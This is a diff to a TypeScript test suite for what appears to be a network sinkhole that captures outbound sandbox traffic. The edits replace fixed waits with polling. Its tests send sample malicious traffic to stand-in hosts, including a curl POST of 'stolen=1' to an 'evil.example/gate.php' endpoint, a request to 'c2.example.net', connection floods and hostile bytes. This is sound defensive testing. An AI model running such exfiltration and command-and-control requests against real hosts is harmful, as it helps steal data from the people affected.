@@ -1,5 +1,6 @@
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
+import { createHash } from "node:crypto";
 import { createSocket } from "node:dgram";
 import { once } from "node:events";
 import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
@@ -21,6 +22,8 @@ import { parseOutpostMessage } from "../../gateway/warden/outpost-messages.ts";
 const run = promisify(execFile);
 const OUTPOST = "127.77.1.1";
 const BOX = "127.77.1.9";
+/** For what happens in a moment where the machine is not busy; milliseconds. */
+const PATIENCE = 60_000;
 const { tcp: OPEN, smtp: SMTP, smtps: SMTPS, udp: UDP } = OUTPOST_PORTS;
 
 const told: NetworkFact[] = [];
@@ -61,29 +64,28 @@ async function open(port: number, from = BOX): Promise<Socket> {
   return socket;
 }
 
-/** Waits until it is told; by the port that it came from, as facts of other connections may be under way. */
-async function factOf(from: number | undefined, patience = 3000): Promise<NetworkFact> {
-  const end = Date.now() + patience;
-  while (Date.now() < end) {
-    const found = told.find((fact) => fact.from === from);
-    if (found) return found;
-    await sleep(20);
-  }
-  throw new Error(`nothing was told of port ${from ?? "?"}`);
+/** By the other side, within a moment. */
+async function isEnded(socket: Socket): Promise<boolean> {
+  await sleep(100);
+  return socket.closed || socket.readableEnded;
 }
 
-async function nextFact(act: () => Promise<unknown>): Promise<NetworkFact> {
-  // Those of connections before wait for a log that is not there.
-  await sleep(LOG_WAIT + 100);
-  const before = told.length;
-  await act();
-  const end = Date.now() + 3000;
-  while (Date.now() < end) {
-    const found = told[before];
-    if (found) return found;
-    await sleep(20);
+async function eventually<T>(what: string, look: () => T | undefined): Promise<T> {
+  for (const end = performance.now() + PATIENCE; performance.now() < end; await sleep(20)) {
+    const found = look();
+    if (found !== undefined) return found;
   }
-  throw new Error("nothing was told");
+  throw new Error(`${what}: not within ${PATIENCE} ms; told was ${JSON.stringify(told.slice(-5))}`);
+}
+
+/** Waits until it is told; by the port that it came from, as facts of other connections may be under way. */
+function factOf(from: number | undefined): Promise<NetworkFact> {
+  return eventually(`the fact of port ${from ?? "?"}`, () => told.find((fact) => fact.from === from));
+}
+
+/** By the name that the connection was for: facts of others wait for a log that is not there. */
+function factOfName(name: string): Promise<NetworkFact> {
+  return eventually(`the fact of ${name}`, () => told.find((fact) => fact.name === name));
 }
 
 function ledAway(from: number, to: LedAway["to"], protocol: LedAway["protocol"] = "tcp"): LedAway {
@@ -103,9 +105,8 @@ describe("a web server, as curl sees it", () => {
   });
 
   it("the fact has the host that was asked for and the request", async () => {
-    const fact = await nextFact(() =>
-      curl("http://evil.example/gate.php?id=7", "--connect-to", `::${OUTPOST}:${OPEN}`, "-d", "stolen=1"),
-    );
+    await curl("http://evil.example/gate.php?id=7", "--connect-to", `::${OUTPOST}:${OPEN}`, "-d", "stolen=1");
+    const fact = await factOfName("evil.example");
     assert.deepEqual([fact.rule, fact.protocol, fact.name], ["sinkhole", "tcp", "evil.example"]);
     assert.deepEqual(fact.to, { address: "0.0.0.0", port: 80 });
     assert.match(
@@ -136,29 +137,19 @@ describe("a web server, as curl sees it", () => {
   });
 
   it("inside TLS the same, and the name is that of the TLS", async () => {
-    const fact = await nextFact(async () => {
-      const page = await curl("https://c2.example.net/", "--connect-to", `::${OUTPOST}:${OPEN}`);
-      assert.match(page, /200 OK/);
-    });
-    assert.deepEqual([fact.name, fact.to.port], ["c2.example.net", 443]);
+    const page = await curl("https://c2.example.net/", "--connect-to", `::${OUTPOST}:${OPEN}`);
+    assert.match(page, /200 OK/);
+    const fact = await factOfName("c2.example.net");
+    assert.equal(fact.to.port, 443);
     assert.match(fact.data ?? "", /^GET \/ HTTP\/1\.1\r\n/);
   });
 
   it("a client that does not like the certificate has told the name all the same", async () => {
-    const fact = await nextFact(async () => {
-      await assert.rejects(
-        run("curl", [
-          "-s",
-          "--interface",
-          BOX,
-          "https://pinned.example/",
-          "--connect-to",
-          `::${OUTPOST}:${OPEN}`,
-        ]),
-        (error: { code: number }) => error.code === 60,
-      );
-    });
-    assert.equal(fact.name, "pinned.example");
+    await assert.rejects(
+      run("curl", ["-s", "--interface", BOX, "https://pinned.example/", "--connect-to", `::${OUTPOST}:${OPEN}`]),
+      (error: { code: number }) => error.code === 60,
+    );
+    const fact = await factOfName("pinned.example");
     assert.equal(fact.data?.charCodeAt(0), 0x16);
   });
 
@@ -190,9 +181,13 @@ describe("a web server, as curl sees it", () => {
       socket.on("data", (chunk: Buffer) => chunks.push(chunk));
       const from = socket.localPort;
       socket.write(said, "latin1");
-      await sleep(150);
+      const heard = () => Buffer.concat(chunks).toString("latin1");
+      // Silence is what there is to see after a while; an answer is waited for.
+      if (answer.test("")) await sleep(150);
+      else
+        await eventually(`an answer to ${said.slice(0, 20)}`, () => (answer.test(heard()) ? true : undefined));
       socket.destroy();
-      assert.match(Buffer.concat(chunks).toString("latin1"), answer, said.slice(0, 20));
+      assert.match(heard(), answer, said.slice(0, 20));
       const fact = await factOf(from);
       assert.equal(fact.data, said.slice(0, 1024));
       assert.equal(fact.size, said.length);
@@ -229,12 +224,12 @@ with smtplib.SMTP("${OUTPOST}", ${SMTP}, timeout=10, source_address=source) as m
     assert mail.docmd("FOO")[0] == 502
 print("all taken")
 `;
-    await sleep(LOG_WAIT + 100);
-    const before = told.length;
     const { stdout } = await run("python3", ["-c", script]);
     assert.equal(stdout, "all taken\n");
+    const mails = () => told.filter(({ to }) => to.port === 25 || to.port === 465);
+    await eventually("four facts", () => (mails().length >= 4 ? true : undefined));
     await sleep(LOG_WAIT + 100);
-    const facts = told.slice(before);
+    const facts = mails();
     assert.equal(facts.length, 4);
     assert.deepEqual(facts.map(({ to }) => to.port).toSorted(), [25, 25, 25, 465]);
     assert.ok(facts.every(({ data }) => data && /^ehlo |^HELO |^DATA/.test(data)));
@@ -293,9 +288,9 @@ describe("each connection is told once", () => {
     const from = socket.localPort ?? 0;
     socket.write("x".repeat(3000));
     const started = performance.now();
-    const fact = await factOf(from, 15_000);
+    const fact = await factOf(from);
     const waited = performance.now() - started;
-    assert.ok(waited > 1500 && waited < 15_000, `${waited} ms`);
+    assert.ok(waited > 1500, `${waited} ms`);
     assert.deepEqual([fact.data?.length, fact.size], [1024, 3000]);
     socket.end("more");
     await once(socket, "close");
@@ -327,18 +322,18 @@ describe("bounds of the sinkhole", () => {
   it("so many connections of one sandbox, and others still have theirs", async () => {
     const many = "127.77.1.50";
     const sockets = await Promise.all(Array.from({ length: 40 }, () => open(OPEN, many)));
+    const alive = () => sockets.filter((socket) => !socket.closed && !socket.readableEnded);
+    await eventually("32 connections", () => (alive().length <= 32 ? true : undefined));
     await sleep(300);
-    const alive = sockets.filter((socket) => !socket.closed && !socket.readableEnded);
-    assert.equal(alive.length, 32);
+    assert.equal(alive().length, 32);
     const other = await open(OPEN, "127.77.1.51");
     other.write("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
     const [answer] = (await once(other, "data")) as [Buffer];
     assert.match(answer.toString(), /^HTTP\/1\.1 200/);
     for (const socket of [...sockets, other]) socket.destroy();
-    await sleep(200);
-    const again = await open(OPEN, many);
-    await sleep(100);
-    assert.equal(again.readableEnded, false, "what ended makes room");
+    let again = await open(OPEN, many);
+    for (let tries = 0; tries < 100 && (await isEnded(again)); tries++) again = await open(OPEN, many);
+    assert.ok(!again.closed && !again.readableEnded, "what ended makes room");
     again.destroy();
   });
 
@@ -346,8 +341,10 @@ describe("bounds of the sinkhole", () => {
     const sockets: Socket[] = [];
     for (let box = 60; box < 77; box++)
       sockets.push(...(await Promise.all(Array.from({ length: 32 }, () => open(OPEN, `127.77.1.${box}`)))));
-    await sleep(500);
-    assert.equal(sockets.filter((socket) => !socket.closed && !socket.readableEnded).length, 512);
+    const alive = () => sockets.filter((socket) => !socket.closed && !socket.readableEnded);
+    await eventually("512 connections", () => (alive().length <= 512 ? true : undefined));
+    await sleep(300);
+    assert.equal(alive().length, 512);
     for (const socket of sockets) socket.destroy();
     await sleep(1000);
   });
@@ -365,9 +362,8 @@ describe("bounds of the sinkhole", () => {
       `head -c 3000000 /dev/zero | timeout 20 openssl s_client -quiet -bind ${BOX}:0 -connect ${OUTPOST}:${OPEN} 2>/dev/null | wc -c; true`,
     ]);
     assert.equal(stdout.trim(), "0");
-    await sleep(LOG_WAIT + 100);
-    assert.ok(
-      told.some(
+    await eventually("what came inside TLS", () =>
+      told.find(
         ({ to, size: inside = 0 }) => to.port === 443 && inside > 2 ** 20 && inside < 2 ** 20 + 2 ** 17,
       ),
     );
@@ -388,7 +384,8 @@ describe("bounds of the sinkhole", () => {
   });
 
   it("hostile bytes end nothing but their own connection", async () => {
-    const random = () => Buffer.from(Array.from({ length: 200 }, () => Math.floor(Math.random() * 256)));
+    let block = Buffer.from("hostile bytes");
+    const random = () => (block = createHash("shake256", { outputLength: 200 }).update(block).digest());
     for (const port of [OPEN, SMTP, SMTPS]) {
       for (const start of [
         "",
